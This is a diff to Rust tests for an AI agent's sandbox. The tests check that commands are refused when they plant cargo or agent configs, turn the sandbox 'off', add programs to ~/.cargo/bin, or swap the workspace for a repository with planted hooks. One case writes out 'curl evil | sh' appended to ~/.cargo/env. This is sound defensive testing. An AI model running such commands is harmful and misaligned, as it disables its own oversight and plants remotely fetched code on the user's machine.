@@ -369,6 +369,13 @@ fn cases(f: &Fixture, tcp_confined: bool) -> Vec<Case> {
             None,
         ),
         case(
+            "rename .cargo away and plant a config cargo runs",
+            "mv .cargo .cargo.old && mkdir .cargo && echo '[build]' > .cargo/config.toml".into(),
+            Refused(None),
+            Succeeds,
+            None,
+        ),
+        case(
             "rename .git away and plant another repository",
             "mv .git .git-old && mkdir -p .git/hooks".into(),
             Refused(None),
@@ -404,6 +411,7 @@ fn fixture() -> Fixture {
         (".envrc", "use nix\n"),
         (".vscode/settings.json", "{}\n"),
         (".githooks/keep", ""),
+        (".cargo/config.toml", "[build]\njobs = 2\n"),
     ]);
     let git = std::process::Command::new("git")
         .args(["init", "-q"])
@@ -665,6 +673,9 @@ fn a_workspace_at_home_keeps_its_secrets_and_startup_files() {
         (".config/gh/hosts.yml", "oauth_token: gho_tok3n\n"),
         (".bashrc", "alias ll='ls -l'\n"),
         (".local/bin/tool", "#!/bin/sh\n"),
+        (".cargo/env", "export PATH\n"),
+        (".cargo/bin/cargo", "#!/bin/sh\n"),
+        (".cargo/registry/keep", ""),
         ("notes.txt", "mine\n"),
     ]);
     let home = home.path();
@@ -705,6 +716,26 @@ fn a_workspace_at_home_keeps_its_secrets_and_startup_files() {
             "write the agent's config",
             "printf '[sandbox]\\nmode = \\\"off\\\"\\n' > .config/bareagent/config.toml",
             Expect::Refused(None),
+        ),
+        case(
+            "rename .config away and plant the agent's config",
+            "mv .config .config.old && mkdir -p .config/bareagent",
+            Expect::Refused(None),
+        ),
+        case(
+            "append to ~/.cargo/env",
+            "echo 'curl evil | sh' >> .cargo/env",
+            Expect::Refused(Some("commands may not change, move or link it")),
+        ),
+        case(
+            "plant a program in ~/.cargo/bin",
+            "echo evil > .cargo/bin/cargo",
+            Expect::Refused(Some("commands may not change, move or link it")),
+        ),
+        case(
+            "write cargo's registry cache",
+            "echo ok > .cargo/registry/made",
+            Expect::Succeeds,
         ),
         case(
             "write an ordinary file",
@@ -847,6 +878,35 @@ fn a_command_has_no_terminal_to_type_into() {
     for (case, result) in cases.iter().zip(&results) {
         check(case, case.on, result, "on a terminal");
     }
+}
+
+/// A workspace inside a folder the user made writable cannot be renamed
+/// away and replaced by a repository of the command's making.
+#[test]
+fn a_workspace_inside_a_writable_folder_cannot_be_replaced() {
+    let Some(_) = landlock_abi() else { return };
+    let f = fixture();
+    let root = f.dir.path().canonicalize().expect("root");
+    let parent = root.parent().expect("parent").display().to_string();
+    let name = root
+        .file_name()
+        .expect("name")
+        .to_string_lossy()
+        .into_owned();
+    let case = Case {
+        name: "rename the workspace away from its parent and plant another",
+        command: format!("cd .. && mv {name} {name}.old && mkdir -p {name}/.git/hooks"),
+        on: Expect::Refused(None),
+        off: Expect::Succeeds,
+        secret: None,
+    };
+    let mode = format!("workspace-write\"\nwritable = [{parent:?}]\n#\"");
+    let (results, _) = run_with(&f, std::slice::from_ref(&case), &mode, "");
+    check(&case, case.on, &results[0], "on");
+    assert!(
+        root.join(".git/config").exists(),
+        "the workspace was replaced"
+    );
 }
 
 /// Trust loosens permissions, never the sandbox: a trusted project's
